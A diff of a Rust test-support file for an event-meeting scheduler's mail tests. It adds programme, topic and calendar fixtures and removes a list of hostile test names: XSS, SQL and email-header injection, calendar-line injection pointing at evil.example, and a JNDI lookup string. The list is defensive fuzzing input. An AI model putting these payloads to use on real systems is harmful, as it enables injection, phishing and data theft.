@@ -6,22 +6,26 @@ use chrono::{DateTime, Duration, NaiveDate, TimeZone, Utc};
 use rendezvous::config::BaseUrl;
 use rendezvous::domain::accessibility::Barrier;
 use rendezvous::domain::account::Account;
-use rendezvous::domain::event::{CalendarMode, Event, Session, Slot, Venue};
+use rendezvous::domain::calendar_origin::CalendarOrigin;
+use rendezvous::domain::event::{CalendarMode, Event, Programme, Session, Slot, Topic, Venue};
 use rendezvous::domain::ids::{
-    AccountId, BlockId, EventId, MeetingId, ParticipantId, ProposalId, SessionId, SlotId,
+    AccountId, BlockId, EventId, MeetingId, ParticipantId, ProposalId, SessionId, SlotId, TopicId,
 };
 use rendezvous::domain::lang::{Lang, Localised};
 use rendezvous::domain::mail::{MailKind, OutgoingMail};
 use rendezvous::domain::meeting::{Meeting, MeetingState};
 use rendezvous::domain::organisation::OrganisationType;
-use rendezvous::domain::participant::{Attendance, Participant, Person, Profile, Source};
+use rendezvous::domain::participant::{
+    Attendance, Interest, InterestKind, Participant, Person, Profile, Source,
+};
 use rendezvous::domain::proposal::{Proposal, ProposalState};
 use rendezvous::domain::text::Email;
 use rendezvous::domain::visibility::ShownFields;
 use rendezvous::mail::dkim::Signer;
 use rendezvous::mail::messages::{
-    self, Addressee, BarrierMail, ComingDeletion, DayPlan, DeletionMail, ProposedMeeting, Punctuality,
-    Reminder, RoundReady, ScheduleNews, ScheduledMeeting, Standing, describe,
+    self, Addressee, BarrierMail, ComingDeletion, DayPlan, DeletionMail, MeetingReader, PlanCalendar,
+    PlanMail, ProposedMeeting, Punctuality, Reminder, RoundReady, ScheduleNews, ScheduledMeeting, Standing,
+    Voice, describe,
 };
 use rendezvous::mail::{MailContext, ReturnPath, StopLink};
 use rendezvous::words::Words;
@@ -34,6 +38,9 @@ pub const READER: &str = "ada@engines.example";
 pub const PARTNER: &str = "hidden.address@partner.example";
 pub const LINK: &str = "https://rendezvous.example/my/Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4";
 
+pub const ASK: &str =
+    "https://rendezvous.example/my/Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4?to=calendar";
+
 pub const STOP: &str = "https://rendezvous.example/unsubscribe/0123456789abcdef0123456789abcdef";
 
 /// What the mails of a test are made of.
@@ -42,12 +49,21 @@ pub struct Sample {
     pub reader: Participant,
     pub partner: Participant,
     pub meetings: Vec<Meeting>,
+    /// A session that the reader takes part in, and topics that the partner offers.
+    pub programme: Programme,
+    /// Whose doing it is that meetings are off.
+    pub voice: Voice,
     /// Signs the mails; not at all unless a test says so.
     pub signer: Arc<Signer>,
 }
 
 pub fn now() -> DateTime<Utc> {
     Utc.with_ymd_and_hms(2020, 11, 2, 8, 30, 0).unwrap()
+}
+
+/// By what calendars know the event.
+pub fn origin() -> CalendarOrigin {
+    CalendarOrigin { host: "rendezvous.example".into(), organiser: email(FROM) }
 }
 
 pub fn email(text: &str) -> Email {
@@ -59,14 +75,23 @@ impl Sample {
     pub fn in_language(lang: Lang) -> Sample {
         let mut reader = participant("1", "Ada Lovelace", "Analytical Engines Ltd", "GB", READER);
         reader.profile.lang = lang;
-        let partner =
+        let mut partner =
             participant("2", "Jérôme Müller-Ångström", "Cluster für Wasser, Luft & Boden", "AT", PARTNER);
         let start = Utc.with_ymd_and_hms(2020, 11, 11, 13, 20, 0).unwrap();
         let meetings = vec![
             meeting("m1", &reader, &partner, start, 7),
             meeting("m2", &partner, &reader, start + Duration::hours(20), 12),
         ];
-        Sample { event: event(), reader, partner, meetings, signer: Arc::default() }
+        let programme = programme();
+        reader.profile.attendance.sessions = vec![programme.sessions[0].id.clone()];
+        let offers = |topic: &Topic| Interest {
+            topic: topic.id.clone(),
+            kind: InterestKind::Offer,
+            text: String::new(),
+        };
+        partner.profile.interests = programme.topics.iter().map(offers).collect();
+        let (voice, signer) = (Voice::Plain, Arc::default());
+        Sample { event: event(), reader, partner, meetings, programme, voice, signer }
     }
 
     /// The same with one meeting at each of these times.
@@ -127,6 +152,8 @@ impl Sample {
             punctuality: Punctuality::Late,
             useful_until: opening,
         };
+        let origin = origin();
+        let meetings = MeetingReader { event, participant: reader, origin: &origin, link: LINK };
         let made = match kind {
             MailKind::Confirm => messages::confirm(&context, event, reader, LINK, 48),
             MailKind::ConfirmAddress => messages::confirm_address(&context, event, reader, LINK, 24),
@@ -134,7 +161,7 @@ impl Sample {
                 messages::address_changed(&context, event, reader, &email("ada@new.example"))
             }
             MailKind::Schedule => {
-                messages::schedule(&context, &ScheduleNews::First, event, reader, LINK, &scheduled)
+                messages::schedule(&context, &meetings, &self.plan_mail(&ScheduleNews::First, &scheduled))
             }
             MailKind::ScheduleChanged => {
                 let words = Words::of(reader.profile.lang);
@@ -144,13 +171,15 @@ impl Sample {
                     added: said.clone(),
                     moved: said.clone(),
                     cancelled: said,
+                    voice: self.voice,
                 };
-                messages::schedule(&context, &news, event, reader, LINK, &scheduled)
+                messages::schedule(&context, &meetings, &self.plan_mail(&news, &scheduled))
             }
-            MailKind::Invitation => messages::invitation(&context, event, reader, LINK, &scheduled[0]),
+            MailKind::Invitation => messages::invitation(&context, &meetings, &scheduled[0]),
             MailKind::MeetingCancelled => {
-                messages::meeting_cancelled(&context, event, reader, LINK, &scheduled[0])
+                messages::meeting_cancelled(&context, &meetings, &scheduled[0], self.voice, None)
             }
+            MailKind::DeclineHeard => messages::decline_heard(&context, &meetings, &scheduled[0]),
             MailKind::FormLink => {
                 let name = &reader.profile.person.name;
                 let address = email(READER);
@@ -222,6 +251,15 @@ impl Sample {
         made.unwrap()
     }
 
+    /// A mail about the plan, with the calendar that the event sends.
+    fn plan_mail<'a>(&self, news: &'a ScheduleNews, meetings: &'a [ScheduledMeeting<'a>]) -> PlanMail<'a> {
+        let calendar = match self.event.calendar_mode {
+            CalendarMode::Invitation => PlanCalendar::Invitations,
+            CalendarMode::File => PlanCalendar::File(meetings),
+        };
+        PlanMail { news, plan: meetings, calendar, ask: Some(ASK) }
+    }
+
     /// The reader as an organiser.
     fn account(&self) -> Account {
         Account {
@@ -278,6 +316,26 @@ fn event() -> Event {
         wished_minimum: 3,
         seats_taken: 2,
         ..plain_event(EventId("e1".into()))
+    }
+}
+
+fn programme() -> Programme {
+    let start = Utc.with_ymd_and_hms(2020, 11, 11, 8, 0, 0).unwrap();
+    let topic = |(id, label): (&str, &str)| Topic {
+        id: TopicId(id.into()),
+        parent: None,
+        label: Localised::one(Lang::En, label),
+    };
+    Programme {
+        topics: [("t1", "Batteries"), ("t2", "Hydrogen")].map(topic).to_vec(),
+        sessions: vec![Session {
+            id: SessionId("opening".into()),
+            title: Localised::one(Lang::En, "Opening"),
+            place: "Hall A".into(),
+            starts_at: start,
+            ends_at: start + Duration::hours(1),
+        }],
+        ..Programme::default()
     }
 }
 
@@ -349,63 +407,4 @@ fn meeting(id: &str, a: &Participant, b: &Participant, start: DateTime<Utc>, tab
         sequence: 0,
         updated_at: now() - Duration::hours(1),
     }
-}
-
-/// Names that break programs: markup, line breaks, calendar and header lines, other scripts, directions, length.
-pub fn naughty_names() -> Vec<String> {
-    let fixed = [
-        "<script>alert(1)</script>",
-        "<form action=https://evil.example><input name=password>",
-        "<base href=https://evil.example/><style>*{display:none}</style>",
-        "\"><img src=x onerror=alert(1)>",
-        "&lt;img src=x onerror=alert(1)&gt;",
-        "Robert'); DROP TABLE outbox;--",
-        "Ada\r\nBcc: everyone@evil.example",
-        "Ada\nBcc: everyone@evil.example\n\nBody",
-        "Ada\rX-Header: 1",
-        "Ada\r\n.\r\nMAIL FROM:<evil@evil.example>",
-        ".",
-        "..",
-        ". leading dot",
-        "Ada\0Lovelace",
-        "Ada\u{2028}END:VEVENT\u{2029}BEGIN:VEVENT",
-        "END:VEVENT\r\nATTACH:https://evil.example/x\r\nBEGIN:VEVENT",
-        "\r\nATTENDEE:mailto:everyone@evil.example",
-        "Comma, Semicolon; Colon: Back\\slash \\n \\N",
-        "ends with a backslash\\",
-        "\"quoted\"",
-        "\"; RSVP=TRUE:mailto:x@evil.example",
-        "quote \" inside",
-        "o'Neill-Düßeldörfer",
-        "{ $event } {name} {{ letter.subject }} {% include %} ${jndi:ldap://evil.example/a}",
-        "{meeting}",
-        "=?utf-8?q?Bcc=3A?= =?utf-8?b?QmNjOg==?=",
-        "=0D=0ABcc: x",
-        "a@b.example <evil@evil.example>, other@evil.example",
-        "Name <evil@evil.example>",
-        "(comment) name",
-        "Łukasz Żółć",
-        "Ελένη Παπαδοπούλου",
-        "Ольга Шевченко",
-        "שלום עולם",
-        "محمد علي",
-        "李小龍 ライ",
-        "👩🏽‍💻 Zoë 🏳️‍🌈",
-        "e\u{301}le\u{300}ve",
-        "\u{202e}moc.live\u{202c}",
-        "\u{feff}BOM",
-        "x\u{200b}y\u{ad}z",
-        "tab\there",
-        "   spaces   around   ",
-        "007",
-        "null",
-        "-1",
-        "",
-    ];
-    let mut names: Vec<String> = fixed.into_iter().map(String::from).collect();
-    names.push("W".repeat(10_000));
-    names.push("ß".repeat(10_000));
-    names.push("long words and spaces ".repeat(500));
-    names.push(format!("{}\u{1F600}", "x".repeat(66)));
-    names
 }
